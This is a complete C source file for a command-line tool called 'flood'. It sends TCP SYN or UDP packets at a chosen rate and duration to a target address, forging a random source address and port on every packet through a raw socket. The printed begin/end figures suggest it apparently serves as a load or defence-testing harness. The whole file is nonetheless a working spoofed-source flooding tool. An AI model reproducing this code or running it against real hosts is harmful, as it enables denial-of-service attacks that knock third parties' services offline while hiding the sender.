/* A flood with forged sources: TCP SYNs, or UDP datagrams, at a rate and for a time.
 *
 *   flood -p PORT -r PACKETS_A_SECOND -d SECONDS [-w WARM_SECONDS] [-u] ADDRESS
 *
 * Every packet has a source of its own: a random address of 10.64.0.0/10 and a random port. A SYN carries the
 * maximum segment size and no other option (44 bytes of IP), a datagram 18 bytes of payload (46), with right checksums.
 * Packets leave in bursts of 16. A sender that was held up for more than 10 ms does not make up for it: no
 * peak is above the rate for long, and what was reached is in the figures. "begin" is printed after the
 * warm-up, and "end SENT SECONDS" after SECONDS or at SIGTERM, for the time in between.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <sys/socket.h>
#include <unistd.h>

#include "pace.h"

enum { BURST = 16, MSS_OPTION = 4, MSS = 1460, PAYLOAD = 18, TTL = 64 };
static const double LAG = 0.01;
static const uint32_t SOURCES = 0x0A400000, SOURCE_BITS = 0x003FFFFF;

struct packet {
    struct iphdr ip;
    union {
        struct {
            struct tcphdr header;
            uint8_t mss[MSS_OPTION];
        } tcp;
        struct {
            struct udphdr header;
            uint8_t payload[PAYLOAD];
        } udp;
    };
} __attribute__((packed));

static struct packet packets[BURST];
static struct iovec data[BURST];
static struct mmsghdr messages[BURST];
static size_t transport_length;
static uint64_t seed;
static volatile sig_atomic_t stopped;

static void stop(int number) {
    (void)number;
    stopped = 1;
}

/* xorshift64: a few instructions a packet. */
static uint64_t next_random(void) {
    seed ^= seed << 13;
    seed ^= seed >> 7;
    seed ^= seed << 17;
    return seed;
}

/* The Internet checksum over the pseudo header and the transport part (RFC 1071). */
static uint16_t checksum(const struct packet *packet) {
    const uint8_t *bytes = (const uint8_t *)packet;
    uint32_t sum = packet->ip.protocol + (uint32_t)transport_length;
    for (size_t i = 12; i < sizeof packet->ip + transport_length; i += 2)
        sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
    sum = (sum & 0xffff) + (sum >> 16);
    sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

static void build(struct packet *packet, bool udp, struct in_addr to, int port) {
    packet->ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = TTL, .daddr = to.s_addr};
    packet->ip.protocol = udp ? IPPROTO_UDP : IPPROTO_TCP;
    packet->ip.tot_len = htons((uint16_t)(sizeof packet->ip + transport_length));
    if (udp) {
        packet->udp.header.dest = htons((uint16_t)port);
        packet->udp.header.len = htons((uint16_t)transport_length);
        return;
    }
    packet->tcp.header.dest = htons((uint16_t)port);
    packet->tcp.header.doff = (uint16_t)(transport_length / 4);
    packet->tcp.header.syn = 1;
    packet->tcp.header.window = htons(64240);
    memcpy(packet->tcp.mss, (uint8_t[]){TCPOPT_MAXSEG, MSS_OPTION, MSS >> 8, MSS & 0xff}, MSS_OPTION);
}

/* Gives a packet its source. The kernel writes the checksum of the IP header. */
static void forge(struct packet *packet, bool udp) {
    uint64_t r = next_random();
    uint16_t port = htons((uint16_t)(1024 + (r >> 32) % 64512));
    packet->ip.saddr = htonl(SOURCES | ((uint32_t)r & SOURCE_BITS));
    packet->ip.id = htons((uint16_t)(r >> 48 | 1));
    if (udp) {
        packet->udp.header.source = port;
        packet->udp.header.check = 0;
        packet->udp.header.check = checksum(packet);
        return;
    }
    packet->tcp.header.source = port;
    packet->tcp.header.seq = (uint32_t)next_random();
    packet->tcp.header.check = 0;
    packet->tcp.header.check = checksum(packet);
}

static uint64_t send_for(int fd, bool udp, double rate, double seconds) {
    double start = now(), end = start + seconds, due = start;
    uint64_t sent = 0;
    while (!stopped) {
        sleep_until(due);
        double time = now();
        if (time >= end)
            break;
        if (time - due > LAG)
            due = time;
        for (int i = 0; i < BURST; i++)
            forge(&packets[i], udp);
        int done = sendmmsg(fd, messages, BURST, 0);
        if (done < 0 && errno != ENOBUFS && errno != EAGAIN && errno != EINTR)
            fail("sendmmsg");
        if (done > 0)
            sent += (uint64_t)done;
        due += BURST / rate;
    }
    return sent;
}

int main(int argc, char **argv) {
    struct sockaddr_in to = {.sin_family = AF_INET};
    double rate = 0, seconds = 0, warm = 0, begin;
    bool udp = false;
    int port = 0, option, fd;
    uint64_t sent;
    while ((option = getopt(argc, argv, "p:r:d:w:u")) != -1) {
        switch (option) {
        case 'p': port = atoi(optarg); break;
        case 'r': rate = atof(optarg); break;
        case 'd': seconds = atof(optarg); break;
        case 'w': warm = atof(optarg); break;
        case 'u': udp = true; break;
        default: return 2;
        }
    }
    if (!port || rate <= 0 || seconds <= 0 || optind + 1 != argc ||
        inet_pton(AF_INET, argv[optind], &to.sin_addr) != 1) {
        fputs("usage: flood -p PORT -r RATE -d SECONDS [-w WARM] [-u] ADDRESS\n", stderr);
        return 2;
    }
    transport_length = udp ? sizeof packets->udp : sizeof packets->tcp;
    for (int i = 0; i < BURST; i++) {
        build(&packets[i], udp, to.sin_addr, port);
        data[i] = (struct iovec){.iov_base = &packets[i], .iov_len = sizeof packets->ip + transport_length};
        messages[i].msg_hdr = (struct msghdr){.msg_iov = &data[i], .msg_iovlen = 1};
    }
    seed = (uint64_t)(now() * 1e9) | 1;
    signal(SIGTERM, stop);
    if ((fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)) < 0)
        fail("socket");
    if (connect(fd, (struct sockaddr *)&to, sizeof to))
        fail(argv[optind]);
    if (warm > 0)
        send_for(fd, udp, rate, warm);
    puts("begin");
    fflush(stdout);
    begin = now();
    sent = send_for(fd, udp, rate, seconds);
    printf("end %llu %.6f\n", (unsigned long long)sent, now() - begin);
    return 0;
}
